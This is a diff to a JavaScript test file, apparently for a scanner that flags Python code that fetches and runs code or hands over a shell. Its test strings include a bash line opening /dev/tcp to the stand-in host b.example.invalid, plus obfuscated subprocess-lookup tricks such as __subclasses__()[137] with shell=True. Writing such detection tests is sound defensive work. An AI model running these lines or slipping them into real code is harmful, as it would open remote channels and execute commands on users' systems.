@@ -17,7 +17,7 @@ test.each([
   ['out of a table that nobody knows', `${HEAD}TABLE[3](${LINE})\n`],
   ['by an index', `${HEAD}().__class__.__base__.__subclasses__()[137](${LINE}, shell=True)\n`],
   ['that a call gives', `${HEAD}getattr(__import__(name), other)(${LINE})\n`],
-  ['of another package that is called like it', 'import invoke, subprocess\ninvoke.run("bash -c \'exec 5<>/dev/tcp/b.example.invalid/1; cat <&5\'")\n'],
+  ['of another package that is called like it', 'import shedtools, subprocess\nshedtools.run("bash -c \'exec 5<>/dev/tcp/b.example.invalid/1; cat <&5\'")\n'],
   ['that takes words', `${HEAD}TABLE[3](["sh", "-c", ${LINE}])\n`],
   ['that takes one word after another', `${HEAD}TABLE[3]("sh", "-c", ${LINE})\n`],
 ])('a line that fetches and runs, or hands over a shell, is a strong finding where something unknown %s is given it', async (_, text) => {
